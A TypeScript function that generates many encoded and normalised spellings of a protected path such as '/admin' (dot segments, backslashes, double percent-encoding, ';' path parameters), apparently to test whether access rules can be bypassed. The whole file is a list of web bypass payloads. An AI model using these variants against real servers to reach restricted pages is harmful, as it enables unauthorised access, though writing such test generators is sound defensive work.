/**
 * Spellings of one path with which attackers try to get past rules on it, made by combining what servers are known to
 * read alike: dot segments, repeated and backward slashes, percent-encoding once and twice, path parameters.
 * @param path one segment, as `/admin`
 */
export function pathVariants(path: string): readonly string[] {
  const name = path.slice(1);
  const hex = (text: string) => Array.from(text, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
  const names = [
    name,
    ...Array.from(name, (c, i) => name.slice(0, i) + hex(c) + name.slice(i + 1)),
    hex(name),
    hex(name).toUpperCase(),
    `${name.slice(0, 2)}%25${hex(name.charAt(2)).slice(1)}${name.slice(3)}`,
  ];
  const starts = [
    '/',
    '//',
    '///',
    '/./',
    '/.//',
    '/a/../',
    '/a/b/../../',
    '/a/./../',
    '/../',
    '/../../',
    '/..//',
    '/%2e/',
    '/%2E%2E/',
    '/a/%2e%2e/',
    '/a/.%2e/',
    '/a/%2e./',
    '/%2f',
    '/%2F',
    '/%2f%2f',
    '/\\',
    '\\',
    '/\\/',
    '/%5c',
    '/%5C',
    '/a/..%2f',
    '/a/..%5c',
    '/a\\..\\',
    '/;/',
    '/;x=1/',
    '/a;x/../',
    '/%252f',
    '/%252e%252e/',
    '/.;/',
    '/..;/',
    '/a/..;/',
  ];
  const ends = [
    '',
    '/',
    '//',
    '/.',
    '/./',
    '/x/..',
    '?',
    '?x=1',
    '?/../x',
    '%2f',
    '%2F',
    '%5c',
    '\\',
    ';',
    ';x',
    '/;x',
    ';a=b/',
    '%3b',
    '%3Bx',
    '%23',
    '#',
    '#x',
    '%3f',
    '/%2e',
    '/..;/admin',
    '/%2e%2e/admin',
    '/../admin',
    '/a/../',
  ];
  const all = [
    ...starts.flatMap((start) => names.map((item) => start + item)),
    ...ends.flatMap((end) => names.slice(0, 4).map((item) => `/${item}${end}`)),
    ...starts.flatMap((start) => ends.slice(0, 6).map((end) => start + name + end)),
  ];
  return [...new Set(all)];
}
